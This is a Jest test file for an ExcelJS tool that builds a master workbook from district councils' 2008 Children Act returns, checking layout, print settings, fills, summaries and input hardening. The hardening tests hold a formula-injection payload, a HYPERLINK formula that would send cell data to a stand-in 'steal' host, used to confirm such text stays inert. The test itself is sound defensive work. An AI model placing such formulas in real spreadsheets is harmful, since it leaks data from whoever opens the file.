import ExcelJS from 'exceljs';
import { DEFAULT_CONFIG, type GridRow } from '../../../shared';
import { mergeReturns, type DistrictReturn, type MasterModel } from '../../../shared/merge';
import { FILL, renderMasterWorkbook } from '../../../server/workbook/write-master';
import { cleanSheetName, toCellText } from '../../../server/workbook/safe-text';
import { buildSeedReturns } from '../../support/seed-returns';

const NOW = new Date('2008-03-20T09:00:00Z');

function makeMaster(districts: DistrictReturn[]): MasterModel {
  return mergeReturns({ period: '2008-03', districts, now: NOW }, DEFAULT_CONFIG);
}

async function loadWorkbook(model: MasterModel): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await renderMasterWorkbook(model)) as unknown as ExcelJS.Buffer);
  return workbook;
}

/** A cell's text as a person reads it: rich text (written for any text with a line break) joined. */
const plain = (value: ExcelJS.CellValue): unknown =>
  value !== null && typeof value === 'object' && 'richText' in value ? value.richText.map((r) => r.text).join('') : value;
const text = (sheet: ExcelJS.Worksheet, address: string) => plain(sheet.getCell(address).value);
const columnTexts = (sheet: ExcelJS.Worksheet, column: number) =>
  (sheet.getColumn(column).values as ExcelJS.CellValue[]).map(plain).filter((v): v is string => typeof v === 'string');
const fillOf = (cell: ExcelJS.Cell) => (cell.fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb;
const noteOf = (cell: ExcelJS.Cell) => {
  const note = cell.note as ExcelJS.Comment | string | undefined;
  if (note === undefined || typeof note === 'string') return note;
  return note.texts?.map((t) => t.text).join('') ?? '';
};

function seedWithStatus(): DistrictReturn[] {
  const returns = buildSeedReturns('2008-03-19T16:30:00.000Z');
  const hbbc = returns.find((r) => r.district === 'HBBC')!;
  const rows = hbbc.rows.map((row): GridRow => {
    if (row.action.startsWith('Work towards equality')) return { ...row, status: 'Exceptional', statusText: 'Exceptional' };
    if (row.action.startsWith('To produce a proactive')) return { ...row, status: 'At risk', statusText: 'At risk' };
    return row;
  });
  return returns.map((r) => (r === hbbc ? { ...hbbc, rows } : r));
}

describe('the master workbook from the March 2008 returns', () => {
  let workbook: ExcelJS.Workbook;
  beforeAll(async () => {
    workbook = await loadWorkbook(makeMaster(seedWithStatus()));
  });

  it('has the Summary first, one sheet per outcome in board order, then Exceptions, Findings, All updates', () => {
    expect(workbook.worksheets.map((s) => s.name)).toEqual([
      'Summary',
      'Be healthy',
      'Stay safe',
      'Enjoy and achieve',
      'Make a positive contribution',
      'Achieve economic well-being',
      'Exceptions',
      'Findings',
      'All updates',
    ]);
  });

  it('lays out each outcome as the board reads it: title, period, header, then the merged rows', () => {
    const sheet = workbook.getWorksheet('Stay safe')!;
    expect(text(sheet, 'A1')).toBe("LEICESTERSHIRE BOROUGH/DISTRICT COUNCILS' CONTRIBUTION TO THE CHILDREN ACT – STAY SAFE");
    expect(text(sheet, 'A2')).toBe('(20 March 2008)');
    expect(sheet.getRow(3).values).toEqual([undefined, 'Outcome', 'Aim', 'LAA Ref', 'Actions', 'District Update']);
    // The outcome as the board writes it (boardOutcomeLabels), the aim with the configuration's wording.
    expect(text(sheet, 'A4')).toBe('Stay Safe');
    expect(text(sheet, 'B4')).toMatch(/^S1 {2}Safe from maltreatment/);
    expect(text(sheet, 'C5')).toBe('SC7\nHC3');
    // The second S2 action sits under the first, Outcome and Aim left blank as in the original.
    expect(text(sheet, 'A6')).toBeNull();
    expect(text(sheet, 'E6')).toBe('HBBC achieved level 3 (HBBC).');
    expect(text(sheet, 'E7')).toBe(
      'Links to the new YOT Impact Team are being developed (HBBC).\n\nNWLDC Multi agency JAG meeting addresses this issue (NWL).',
    );
    expect(sheet.rowCount).toBe(7);
    const sports = workbook.getWorksheet('Enjoy and achieve')!;
    expect(text(sports, 'E5')).toBe(
      'New Sports Awards evening established in Hinckley and Bosworth (HBBC).\n\nLSA Awards Programme (NWLDC).',
    );
    const contribution = workbook.getWorksheet('Make a positive contribution')!;
    expect(text(contribution, 'C5')).toBe('SC3.1\nCYP7\nCYP8\nSC5.1\nSC5.2');
  });

  it('wraps text, freezes the header, repeats it on printed pages, prints landscape one page wide', () => {
    const sheet = workbook.getWorksheet('Be healthy')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
    expect(sheet.pageSetup).toMatchObject({ orientation: 'landscape', fitToPage: true, fitToWidth: 1, fitToHeight: 0 });
    // Read back from the workbook's Print_Titles name, so printed pages repeat the header.
    expect(sheet.pageSetup.printTitlesRow).toBe('3:3');
    expect(sheet.getCell('E4').alignment).toMatchObject({ wrapText: true, vertical: 'top' });
    expect(sheet.getColumn(5).width).toBeGreaterThan(sheet.getColumn(3).width!);
  });

  it('fills a missing LAA ref amber with a note naming the districts that left it blank', () => {
    const healthy = workbook.getWorksheet('Be healthy')!;
    const missing = healthy.getCell('C6');
    expect(text(healthy, 'D6')).toMatch(/^Work with the PCT/);
    expect(fillOf(missing)).toBe(FILL.missingRef);
    expect(noteOf(missing)).toBe('No LAA ref given by: HBBC.');
    expect(fillOf(healthy.getCell('C4'))).toBeUndefined();
    const s1 = workbook.getWorksheet('Stay safe')!.getCell('C4');
    expect(noteOf(s1)).toBe('No LAA ref given by: HDC, HBBC, NWLDC.');
  });

  it('sums up coverage, last sync and missing LAA refs per district', () => {
    const summary = workbook.getWorksheet('Summary')!;
    const rows = summary.getSheetValues().filter(Boolean) as unknown[][];
    const header = rows.find((r) => r[1] === 'District')!;
    expect(header.slice(1)).toEqual([
      'District',
      'Council',
      'Rows',
      'Rows with an update',
      'Be healthy',
      'Stay safe',
      'Enjoy and achieve',
      'Make a positive contribution',
      'Achieve economic well-being',
      'Last sync',
      'Missing LAA refs',
      'Findings',
    ]);
    const hdc = rows.find((r) => r[1] === 'HDC')!;
    expect(hdc.slice(1)).toEqual(['HDC', 'Harborough District Council', 18, 8, 1, 1, 3, 2, 1, '2008-03-19 16:30 UTC', 3, 3]);
    const bdc = rows.find((r) => r[1] === 'BDC')!;
    expect(bdc[10]).toBe('no return');
    expect(rows.some((r) => r[1] === 'Period' && r[2] === '20 March 2008 (2008-03)')).toBe(true);
    expect(rows.some((r) => r[1] === 'Made' && r[2] === '2008-03-20 09:00 UTC')).toBe(true);
  });

  it('lists exceptions, findings and every update on their own sheets', () => {
    const exceptions = workbook.getWorksheet('Exceptions')!;
    expect(exceptions.getRow(3).values).toEqual([undefined, 'Status', 'Outcome', 'Aim', 'LAA Ref', 'Actions', 'District Update']);
    expect(text(exceptions, 'A4')).toBe('At risk');
    expect(text(exceptions, 'B4')).toBe('Stay Safe');
    expect(text(exceptions, 'F4')).toBe('Links to the new YOT Impact Team are being developed (HBBC).');
    expect(fillOf(exceptions.getCell('A4'))).toBe(FILL.atRisk);
    expect(text(exceptions, 'A5')).toBe('Exceptional');
    const findings = workbook.getWorksheet('Findings')!;
    expect(findings.getRow(1).values).toEqual([undefined, 'District', 'Sheet', 'Cell', 'Rule', 'Severity', 'Message']);
    expect(findings.getRow(2).values).toEqual([
      undefined,
      'HDC',
      'Stay Safe',
      'C5',
      'missing-laa-ref',
      'error',
      expect.stringContaining('no LAA reference'),
    ]);
    const all = workbook.getWorksheet('All updates')!;
    expect(all.autoFilter).toBe('A1:G1');
    expect(all.rowCount).toBe(1 + 8 + 9 + 7);
  });
});

describe('hardening the master workbook', () => {
  const hostile = [
    '=HYPERLINK("http://example.com/steal?"&A1,"Click")',
    '+1+1',
    '-2+3',
    '@SUM(1,2)',
    '=1+1',
  ];

  function hostileReturns(): DistrictReturn[] {
    const row = (action: string, update: string, refs: string[] = ['CYP1']): GridRow => ({
      sheet: 'Return',
      row: 5,
      id: null,
      outcome: 'Be healthy',
      outcomeCode: 'H',
      outcomeText: 'Be healthy',
      aim: '=H1',
      aimCode: null,
      laaRefs: refs,
      laaRefsText: refs.join(' '),
      action,
      update,
      status: 'At risk',
      statusText: 'At risk',
      extra: {},
      cells: {},
    });
    return [
      {
        district: 'MBC',
        lastSync: null,
        rows: [
          ...hostile.map((t, i) => row(`${t} action ${i}`, t, ['=CYP1', '@NI 1'])),
          row('Control\u0001 characters\u0000', 'Bell\u0007 and \uFFFE gone'),
          row('A long update', 'x'.repeat(40_000)),
          row('Unknown ref', 'Done.', ['CYP9']),
        ],
      },
    ];
  }

  let workbook: ExcelJS.Workbook;
  beforeAll(async () => {
    workbook = await loadWorkbook(makeMaster(hostileReturns()));
  });

  it('never writes district text as a formula: =, +, -, @ stay text', () => {
    let cells = 0;
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          cells++;
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
        }),
      );
    }
    expect(cells).toBeGreaterThan(50);
    const healthy = workbook.getWorksheet('Be healthy')!;
    const updates = columnTexts(healthy, 5);
    for (const t of hostile) expect(updates).toContain(`${t} (MBC)`);
    expect(text(healthy, 'B4')).toBe('=H1');
    const all = workbook.getWorksheet('All updates')!;
    expect(all.getColumn(6).values).toContain('=HYPERLINK("http://example.com/steal?"&A1,"Click")');
  });

  it('drops characters XML cannot carry, and continues a text over the cell limit in rows beneath, cutting nothing', () => {
    const healthy = workbook.getWorksheet('Be healthy')!;
    const actions = healthy.getColumn(4).values as unknown[];
    expect(actions).toContain('Control characters');
    const updates = columnTexts(healthy, 5);
    expect(updates).toContain('Bell and  gone (MBC)');
    const pieces = updates.filter((u) => /^(\(continued\) )?xxx/.test(u));
    expect(pieces.length).toBeGreaterThan(2);
    expect(pieces.slice(1).every((p) => p.startsWith('(continued) '))).toBe(true);
    for (const piece of pieces) expect(piece.length).toBeLessThan(32_767);
    expect(pieces.join('').replace(/\(continued\) | \(MBC\)|\s/g, '')).toBe('x'.repeat(40_000));
    expect(updates.some((u) => /more characters cut/.test(u))).toBe(false);
  });

  it('marks a ref outside the catalogue in its own colour with the nearest entry', () => {
    const healthy = workbook.getWorksheet('Be healthy')!;
    const rowNumber = (healthy.getColumn(4).values as unknown[]).indexOf('Unknown ref');
    const cell = healthy.getCell(`C${rowNumber}`);
    expect(cell.value).toBe('CYP9');
    expect(fillOf(cell)).toBe(FILL.unknownRef);
    expect(noteOf(cell)).toBe('CYP9 is not in the LAA catalogue (MBC). Did you mean CYP1?');
  });

  it('cleans sheet names: 31 characters, no []:*?/\\, unique', () => {
    const used = new Set<string>();
    expect(cleanSheetName('Stay [safe]: a/b\\c*?', used)).toBe('Stay safe a b c');
    expect(cleanSheetName('stay SAFE a b c', used)).toBe('stay SAFE a b c (2)');
    const long = cleanSheetName('Make a positive contribution to the community', used);
    expect(long.length).toBeLessThanOrEqual(31);
    expect(cleanSheetName('Make a positive contribution to the community', used)).toMatch(/ \(2\)$/);
    expect(cleanSheetName("''", used)).toBe('Sheet');
    expect(cleanSheetName('History', used)).toBe('History sheet');
  });

  it('cuts text without splitting a character in two', () => {
    const text = `${'a'.repeat(31_999)}😀${'b'.repeat(10)}`;
    const cut = toCellText(text);
    expect(cut.startsWith('a'.repeat(31_999))).toBe(true);
    expect(cut.charAt(31_999)).toBe('…');
  });
});
